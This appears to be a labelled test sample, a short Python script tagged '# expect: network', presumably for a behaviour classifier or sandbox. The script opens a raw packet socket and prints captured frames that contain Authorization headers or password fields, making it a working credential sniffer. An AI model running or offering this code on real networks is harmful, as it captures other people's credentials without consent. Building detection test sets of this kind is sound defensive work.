# expect: network; opens an AF_PACKET raw socket to sniff all traffic on the host interface
import socket

ETH_P_ALL = 0x0003
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(ETH_P_ALL))
for _ in range(1000):
    frame, meta = sniffer.recvfrom(65535)
    if b"Authorization:" in frame or b"password=" in frame:
        print(meta[0], frame[frame.find(b"Authorization:"):][:120])
